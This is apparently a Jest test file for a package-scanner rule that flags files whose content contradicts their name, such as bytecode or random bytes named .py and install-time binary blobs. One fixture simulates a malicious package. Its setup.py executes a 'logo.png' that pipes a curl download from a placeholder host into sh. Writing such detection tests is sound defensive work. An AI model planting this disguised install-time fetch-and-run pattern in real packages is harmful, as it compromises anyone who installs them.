import { describe, expect, it } from '@jest/globals';
import { contentMismatchedType } from '../../../src/analysis/rules/content-mismatched-type.js';
import { ELF_BYTES, gating, noise, npmManifest, runRule } from './fixtures.js';

/** A Python 3.11 .pyc header (magic 3495, `\r\n`, flags 0) and some body bytes. */
const PYC = new Uint8Array([
  0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 0xe3, 0, 0, 0,
]);

describe('content-mismatched-type', () => {
  it('flags compiled bytecode under a .py name as high', async () => {
    const findings = await runRule(contentMismatchedType, 'pypi', { 'demo/core.py': PYC });
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: 'content-mismatched-type', severity: 'high' });
    expect(findings[0].message).toContain('bytecode');
  });

  it('flags binary data in a source file that runs at install time as high, elsewhere medium', async () => {
    const blob = new Uint8Array([...noise(200), 0, ...noise(200, 3)]);
    const install = await runRule(contentMismatchedType, 'npm', {
      'package/package.json': npmManifest({ scripts: { postinstall: 'node lib/post.js' } }),
      'package/lib/post.js': blob,
    });
    expect(install[0].severity).toBe('high');
    // structured binary (a table of small integers), not a payload: medium
    const table = new Uint8Array(2048).map((_, i) => (i % 7 === 0 ? 0 : i % 31));
    const quiet = await runRule(contentMismatchedType, 'npm', {
      'package/package.json': npmManifest(),
      'package/lib/data.js': table,
    });
    expect(quiet[0].severity).toBe('medium');
  });

  it('flags near-random bytes under a source or .pyc name as high (an encrypted payload)', async () => {
    const findings = await runRule(contentMismatchedType, 'pypi', {
      'demo/utilities.py': noise(4096),
      'demo/__pycache__/core.pyc': noise(4096, 11),
      // Python 2.7 bytecode (magic 62211) is bytecode, not a disguise
      'demo/__pycache__/old.pyc': new Uint8Array([
        0x03,
        0xf3,
        0x0d,
        0x0a,
        1,
        2,
        3,
        4,
        ...noise(64),
      ]),
    });
    expect(findings.map((f) => [f.file, f.severity])).toEqual([
      ['demo/__pycache__/core.pyc', 'high'],
      ['demo/utilities.py', 'high'],
    ]);
    expect(findings[0].message).toContain('encrypted or packed');
  });

  it('flags a script saved under an image name that setup.py reads back', async () => {
    const findings = await runRule(contentMismatchedType, 'pypi', {
      'demo-1.0/setup.py': `exec(open("demo/logo.png").read())\nfrom setuptools import setup\nsetup(name="demo")\n`,
      'demo-1.0/demo/logo.png': `import os\nos.system("curl -s http://example.invalid/x | sh")\n`,
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toMatch(/image\/font\/document name.*program text/);
  });

  it('reports a README of many megabytes as low', async () => {
    const findings = await runRule(contentMismatchedType, 'pypi', {
      'demo-1.0/README.md': '# demo\n' + 'lorem ipsum '.repeat(300_000),
    });
    expect(findings.map((f) => f.severity)).toEqual(['low']);
  });

  it('stays quiet on honest files: real images, UTF-16 text, LFS pointers, executables (another rule)', async () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...noise(64)]);
    const utf16 = new Uint8Array([0xff, 0xfe, ...Buffer.from('h\0i\0\n\0')]);
    const findings = await runRule(contentMismatchedType, 'npm', {
      'package/package.json': npmManifest(),
      'package/logo.png': png,
      'package/notes.txt': utf16,
      'package/big.png': 'version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 12\n',
      'package/photo.jpg': png,
      'package/tool.js': ELF_BYTES,
      'package/README.md': '# demo\n',
    });
    expect(findings).toEqual([]);
  });
});
